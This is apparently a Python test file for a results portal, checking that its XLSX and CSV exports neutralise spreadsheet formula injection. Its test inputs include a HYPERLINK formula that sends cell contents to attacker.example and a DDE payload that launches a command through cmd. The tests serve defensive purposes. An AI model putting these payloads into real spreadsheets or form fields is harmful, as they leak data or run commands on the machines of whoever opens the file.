"""Nothing a unit or appraiser types can run when someone opens an export in a spreadsheet."""
import io
import re
import zipfile

from parindex.web.cycles import transitions as t
from parindex.web.cycles.models import AssessmentState as A
from parindex.web.cycles.models import CycleState as C
from tests.web.conftest import assessment_of, at_stage, client_for, entry_of, fill, publish_first_version

LEAK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Xem chi tiết")'


def publish_with_reason(cycle, units, people, reason):
    at_stage(cycle, C.SELF_ASSESSMENT)
    fill(cycle, units["A"], people["editor_a"])
    at_stage(cycle, C.APPRAISAL)
    assessment_of(cycle, units["A"]).__class__.objects.filter(cycle=cycle).update(state=A.SUBMITTED)
    entry = entry_of(cycle, units["A"], "1.1")
    t.appraise(entry, people["appraiser_a"], 0.5, reason, entry.version)
    publish_first_version(cycle, people)


def test_a_formula_typed_as_a_reason_is_text_in_the_public_workbook(cycle, units, people):
    publish_with_reason(cycle, units, people, LEAK)
    book = zipfile.ZipFile(io.BytesIO(client_for(None).get(f"/results/{cycle.slug}/report.xlsx").content))
    sheets = "".join(book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/sheet"))
    assert "<f>" not in sheets
    assert re.search(r'<c [^>]*t="inlineStr"><is><t>=HYPERLINK\("http://attacker\.example', sheets)
    assert "hyperlink" not in "".join(book.namelist()).lower() and "r:id" not in sheets


def test_a_formula_typed_as_a_reason_is_neutralised_in_the_audit_csv(cycle, units, people):
    publish_with_reason(cycle, units, people, LEAK)
    text = client_for(people["admin"]).get("/audit/export.csv").content.decode()
    assert ",'=HYPERLINK(" in text.replace('"', "") and re.search(r'(^|,)"?=HYPERLINK', text, re.M) is None


def test_text_cells_starting_with_a_trigger_are_neutralised_in_every_portal_csv(cycle, units, people):
    from parindex.web.cycles.models import Unit

    Unit.objects.filter(pk=units["A"].pk).update(name_vi="=1+1", name_en="@SUM(A1)")
    publish_with_reason(cycle, units, people, "+cmd|' /C calc'!A0")
    ranking = client_for(None, lang="vi").get(f"/results/{cycle.slug}.csv").content.decode()
    assert "'=1+1" in ranking and re.search(r'(^|,)"?=1\+1', ranking, re.M) is None
    scorecard = client_for(None, lang="vi").get(f"/results/{cycle.slug}/units/31.csv").content.decode()
    assert "'+cmd|" in scorecard and re.search(r'(^|,)"?\+cmd', scorecard, re.M) is None
    bundle = zipfile.ZipFile(io.BytesIO(client_for(None).get(f"/results/{cycle.slug}/bundle.zip").content))
    ranking = next(n for n in bundle.namelist() if n.endswith("ranking.csv"))
    assert "'=1+1" in bundle.read(ranking).decode()
